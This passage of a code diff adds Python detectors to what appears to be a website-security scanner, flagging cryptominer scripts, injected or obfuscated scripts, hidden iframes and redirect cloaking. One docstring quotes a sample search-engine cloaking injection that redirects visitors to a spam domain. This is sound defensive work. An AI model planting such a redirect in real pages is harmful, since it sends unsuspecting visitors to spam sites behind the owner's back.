+                 "shape": list(shape), "snippet": f'<iframe src="{f.src[:200]}" width="{f.width}" height="{f.height}">'},
+            ))
+        miner = 0.0
+        for src, dom in rep.miner_srcs[:3]:
+            miner = 1.0
+            findings.append(Finding(self.id, self.kind, "high", "high",
+                                    f"cryptominer script loaded from {dom}",
+                                    {"where": "html", "url": src, "domain": dom, "snippet": f'<script src="{src[:250]}">'}))
+        for it, idx, decoded in rep.intents:
+            if it.kind == "miner" and not decoded:
+                miner = 1.0
+                findings.append(Finding(self.id, self.kind, "high", "high", f"inline script runs a cryptominer ({it.detail})",
+                                        _ev(it, {"script_index": idx})))
+                break
+        for where, url, dom, shape, obf in rep.outside_html:
+            if dom or obf:
+                strong = strong_shape(shape)
+                sev, conf = ("high", "medium") if (strong or obf) else ("medium", "medium")
+                what = f"loads {dom}" if dom else "runs obfuscated code"
+                if dom and obf:
+                    what += " with obfuscated code"
+                findings.append(Finding(
+                    self.id, self.kind, sev, conf,
+                    f"script {where} {what}: code pasted outside the document, as injections are"
+                    + (f" ({', '.join(shape)})" if shape else ""),
+                    {"where": "html", "url": url, "domain": dom, "shape": list(shape), "snippet": where},
+                ))
+            else:
+                findings.append(Finding(
+                    self.id, self.kind, "low", "low",
+                    f"script {where} (same site or a common third party): unusual but often a template's doing",
+                    {"where": "html", "url": url, "domain": dom, "snippet": where},
+                ))
+        feats = {
+            "unknown_script_domains_log": math.log1p(len(rep.unknown_script_domains)),
+            "suspicious_script_hosts": math.log1p(len(rep.suspicious_srcs)),
+            "third_party_script_share": rep.n_third_party / rep.n_scripts if rep.n_scripts else 0.0,
+            "writes_foreign_resource": writes,
+            "tiny_hidden_iframes_log": math.log1p(len(rep.tiny_frames)),
+            "tiny_foreign_iframe_suspicious": float(any(shape for _, _, shape in rep.tiny_frames)),
+            "foreign_iframe_domains_log": math.log1p(len(rep.foreign_frames)),
+            "outside_html": float(outside),
+            "miner": miner,
+        }
+        return findings, feats
+
+
+class RedirectCloaking(Detector):
+    """Redirects to other sites, and cloaking by referrer or user agent (SEO303).
+
+    Finds ``<meta http-equiv="refresh">`` and script redirects (``location.href=``,
+    ``location.replace()``, ``top.location=``) that send visitors to an unrelated domain, and the
+    classic cloaking injection that redirects only visitors whose ``document.referrer`` is a
+    search engine, or whose user agent is (or is not) a crawler or a phone. Owners who type
+    their address never see such a redirect; searchers land on spam.
+
+    Not counted: redirects within the site or to sister sites, frame-busting (``top.location =
+    self.location``), and analytics code that reads the referrer without redirecting.
+
+    Example: ``if (document.referrer.match(/google|bing|yahoo/)) { window.location =
+    "http://pills-shop.example/"; }``.
+    """
+
+    id = "SEO303"
+    name = "redirect_cloaking"
+    kind = "script_injection"
+    features = ("meta_refresh_foreign", "meta_refresh_fast", "js_redirect_foreign", "referrer_conditional",
+                "ua_conditional", "redirect_suspicious_host")
+    html_only = frozenset(features)
+
+    def detect(self, page: Page):
+        if not page.is_html:
+            return [], {}
+        site = page.site
+        findings = []
+        feats = dict.fromkeys(self.features, 0.0)
+        refresh = page.meta("refresh")
+        if refresh:
+            m = _META_REFRESH.match(refresh)
+            if m and m.group(2):
+                target = m.group(2).strip().strip("'\"")
+                if target[:4].lower() == "http" or target.startswith("//"):
+                    host = host_of(target if target[:4].lower() == "http" else "http:" + target)
+                    dom = registered_domain(host) if host else ""
+                    if dom and foreign(site, dom):
+                        delay = int(m.group(1))
+                        shape = url_shape(target, host)
+                        feats["meta_refresh_foreign"] = 1.0
+                        feats["meta_refresh_fast"] = float(delay <= 5)
+                        if shape:
+                            feats["redirect_suspicious_host"] = 1.0
+                        if strong_shape(shape):
+                            sev, conf = "high", "medium"
+                        elif delay <= 2:
+                            sev, conf = "medium", "low"
+                        else:
+                            sev, conf = "low", "low"
+                        findings.append(Finding(
+                            self.id, self.kind, sev, conf,
+                            f"meta refresh sends visitors to {dom} after {delay}s, a domain unrelated to the site"
+                            + (f" ({', '.join(shape)})" if shape else ""),
+                            {"where": "html", "url": target[:500], "domain": dom, "delay": delay,
+                             "shape": shape, "snippet": f'<meta http-equiv="refresh" content="{refresh[:200]}">'},
+                        ))
+        if page.scripts:
+            rep = analyse(page)
+            seen = set()
+            for it, idx, decoded in rep.intents:
+                if it.kind not in ("redirect", "referrer-cloak", "ua-cloak", "mobile-redirect"):
+                    continue
+                key = (it.kind, it.domain)
+                if key in seen:
+                    continue
+                seen.add(key)
+                where = "decoded from an obfuscated script" if decoded else "inline script"
+                if it.shape:
+                    feats["redirect_suspicious_host"] = 1.0
+                if it.kind == "referrer-cloak":
+                    feats["referrer_conditional"] = 1.0
+                    conf = "high"
+                    findings.append(Finding(self.id, self.kind, "high", conf,
+                                            f"{where} {it.detail}: search-engine cloaking",
+                                            _ev(it, {"script_index": idx})))
+                elif it.kind == "ua-cloak":
+                    feats["ua_conditional"] = 1.0
+                    findings.append(Finding(self.id, self.kind, "high", "medium",
+                                            f"{where} {it.detail}: crawler cloaking", _ev(it, {"script_index": idx})))
+                elif it.kind == "mobile-redirect":
+                    feats["ua_conditional"] = max(feats["ua_conditional"], 0.5)
+                    sev, conf = ("high", "medium") if (strong_shape(it.shape) or decoded) else ("low", "low")
+                    findings.append(Finding(self.id, self.kind, sev, conf,
+                                            f"{where} {it.detail}, a domain unrelated to the site (mobile sites "
+                                            f"usually share the site's name)", _ev(it, {"script_index": idx})))
+                else:
+                    feats["js_redirect_foreign"] = 1.0
+                    if strong_shape(it.shape) or decoded:
+                        sev, conf = "high", "medium"
+                    else:
+                        sev, conf = "low", "low"  # sites link their other sites this way too
+                    findings.append(Finding(self.id, self.kind, sev, conf,
+                                            f"{where} {it.detail}, a domain unrelated to the site"
+                                            + (f" ({', '.join(it.shape)})" if it.shape else ""),
+                                            _ev(it, {"script_index": idx})))
+        return findings, feats
